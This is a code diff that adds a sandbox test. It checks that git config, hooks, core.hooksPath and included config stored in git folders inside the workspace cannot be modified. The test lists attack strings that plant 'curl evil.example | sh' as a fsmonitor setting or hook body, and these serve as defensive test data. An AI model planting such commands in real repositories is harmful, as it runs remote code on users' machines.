@@ -738,6 +738,49 @@ describe('git repositories below the workspace and linked worktrees', { skip }, 
     }
   });
 
+  test('sandboxed: where a .git file names a git folder inside the workspace (--separate-git-dir, a submodule checkout, the workspace\'s own), its config, hooks, core.hooksPath and included config are read-only', async () => {
+    const base = mkdtempSync(join(tmpdir(), 'lar-gitdir-'));
+    const ws = join(base, 'ws');
+    const home = join(base, 'home');
+    mkdirSync(home);
+    try {
+      write(ws, { 'lib/index.js': '1\n', 'lib/tools/hooks/pre-commit': '#!/bin/sh\nnpm test\n', 'lib-extra.gitconfig': '[user]\n\tname = t\n', 'src/a.js': '2\n' });
+      // The workspace's own git folder is inside it too (`.git` a file naming `.repo`), as is lib's (store/lib).
+      const init = spawnSync('git', ['init', '-q', `--separate-git-dir=${join(ws, '.repo')}`, ws], { env: gitEnv, encoding: 'utf8' });
+      assert.equal(init.status, 0, init.stderr);
+      mkdirSync(join(ws, 'store'));
+      const sub = spawnSync('git', ['-C', join(ws, 'lib'), 'init', '-q', '--separate-git-dir=../store/lib'], { env: gitEnv, encoding: 'utf8' });
+      assert.equal(sub.status, 0, sub.stderr);
+      // Relative, as a submodule checkout's is.
+      writeFileSync(join(ws, 'lib', '.git'), 'gitdir: ../store/lib\n');
+      spawnSync('git', ['-C', join(ws, 'lib'), 'config', 'core.hooksPath', 'tools/hooks'], { env: gitEnv });
+      spawnSync('git', ['-C', join(ws, 'lib'), 'config', 'include.path', '../../lib-extra.gitconfig'], { env: gitEnv });
+      commitAll(join(ws, 'lib'));
+      assert.ok(lstatSync(join(ws, 'lib', '.git')).isFile() && lstatSync(join(ws, '.git')).isFile());
+      const r = await openRun(ws, workflow(), home, 'required');
+      for (const attack of [
+        `git -C lib config core.fsmonitor 'curl evil.example | sh'`,
+        `printf '[core]\\n\\tfsmonitor = curl evil.example | sh\\n' >> store/lib/config`,
+        `printf 'curl evil.example | sh\\n' > store/lib/hooks/post-checkout`,
+        `echo 'curl evil.example | sh' >> lib/tools/hooks/pre-commit`,
+        `printf '[core]\\n\\tfsmonitor = curl evil.example | sh\\n' >> lib-extra.gitconfig`,
+        `git config core.fsmonitor 'curl evil.example | sh'`,
+        `printf 'curl evil.example | sh\\n' > .repo/hooks/post-checkout`,
+      ]) {
+        const w = await r.run(`${attack}; echo rc=$?`);
+        assert.doesNotMatch(w.output, /rc=0/, `${attack}: ${w.output}`);
+      }
+      const commit = await r.run('echo 2 > lib/index.js && git -C lib -c user.name=t -c user.email=t@example.com -c core.hooksPath=/dev/null commit -qam inside && echo committed');
+      assert.match(commit.output, /committed/, commit.output);
+      r.terminal.dispose();
+      await r.sandbox.dispose();
+      for (const f of ['store/lib/config', 'lib/tools/hooks/pre-commit', 'lib-extra.gitconfig', '.repo/config']) assert.doesNotMatch(readFileSync(join(ws, f), 'utf8'), /evil/, f);
+      assert.ok(!existsSync(join(ws, 'store', 'lib', 'hooks', 'post-checkout')) && !existsSync(join(ws, '.repo', 'hooks', 'post-checkout')));
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+
   test('sandboxed: in a linked worktree (its .git a file), the hooks folder core.hooksPath names is read-only', async () => {
     const base = mkdtempSync(join(tmpdir(), 'lar-worktree-'));
     const ws = join(base, 'ws');
